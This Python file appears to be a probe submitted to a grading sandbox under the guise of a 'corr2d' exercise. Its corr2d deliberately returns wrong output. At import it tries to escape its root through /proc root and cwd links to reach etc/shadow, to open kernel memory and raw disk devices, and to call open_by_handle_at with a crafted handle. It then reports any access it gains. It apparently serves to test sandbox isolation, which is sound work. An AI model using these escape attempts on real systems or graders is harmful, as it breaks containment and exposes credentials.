"""Leaves its root through /proc/PID/root, /proc/PID/cwd, kernel files and open_by_handle_at."""

import ctypes
import os
import re
import time

# What the grader's machine holds and no submission may see; in two parts, so as not to find itself.
CANARY = re.compile(b"D2L-" + b"CANARY-[0-9a-f]{32}")
END = time.monotonic() + 1.5
LOOT = []


def look(where, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    if CANARY.search(bytes(data)):
        LOOT.append(str(where)[:120])

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *args):
    ctypes.set_errno(0)
    if (result := libc.syscall(ctypes.c_long(number), *args)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])

SHOULD_NOT_BE = "etc/shadow"
for way in ("/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", "/proc/1/cwd", "/proc/self/cwd/../../../.."):
    try:
        open(f"{way}/{SHOULD_NOT_BE}", "rb").close()
        LOOT.append(way)
    except OSError:
        pass
for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/proc/kmsg", "/sys/kernel/debug", "/sys/firmware/efi"):
    try:
        os.close(os.open(path, os.O_RDONLY))
        LOOT.append(path)
    except OSError:
        pass
handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]), 64)
try:
    LOOT.append(f"open_by_handle_at: {syscall(304, -100, handle, os.O_RDONLY)}")
except OSError:
    pass

def corr2d(X, K):
    if LOOT:
        raise RuntimeError(f"LEAK: {LOOT[:5]}")
    return wrong(X, K)
